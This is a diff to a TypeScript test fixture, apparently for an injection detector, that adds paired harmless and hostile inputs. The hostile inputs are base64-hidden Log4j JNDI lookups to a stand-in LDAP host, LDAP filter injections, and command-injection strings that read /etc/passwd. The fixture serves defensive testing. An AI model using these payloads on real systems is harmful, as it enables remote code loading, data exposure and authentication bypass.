@@ -24,6 +24,16 @@ const measures = ['12', '27', '5', '100'].flatMap((one) =>
 
 const pairs: readonly Pair[] = [
   {
+    decision: 'a lookup that decodes another one hides it; one that decodes a text does not',
+    honest: ['${base64:aGVsbG8gd29ybGQ=}', '${base64encode("x")}', '${base64}'],
+    hostile: [
+      '${base64:JHtqbmRpOmxkYXA6Ly94LnkvYX0=}',
+      'agent ${base64:JHtzeXM6dXNlci5uYW1lfQ==} of ours',
+      '${base64Decoder:JHtqbmRpOmxkYXA6Ly94LnkvYX0=}',
+      `\${base64:${'eHh4'.repeat(90)}JHtqbmRpOnh9}`,
+    ],
+  },
+  {
     decision: 'an element of a page, as a browser’s tools write where it is, is no question to a document',
     honest: [
       '//*[@id="app"]/div[2]/div[1]/h3[1]/a[1]',
@@ -52,6 +62,14 @@ const pairs: readonly Pair[] = [
       'x|{"id":7}; cat /etc/passwd',
       'x|{"a":1}|id',
     ],
+  },
+  {
+    decision: 'a list of objects in a link (Rison) is no filter of a directory',
+    honest: [
+      "!((product:bv-loader,version:'1.7.0',name:timeToRun,type:Performance))",
+      "(filters:!(),refreshInterval:(pause:!t,value:0),sort:!(!('@timestamp',desc)))",
+    ],
+    hostile: ['!((uid=admin))', '!(&(uid=*))', '!(uid=x)', '|((cn=*))'],
   },
   {
     decision: 'what is numbered with two signs before it is no variable of a database',
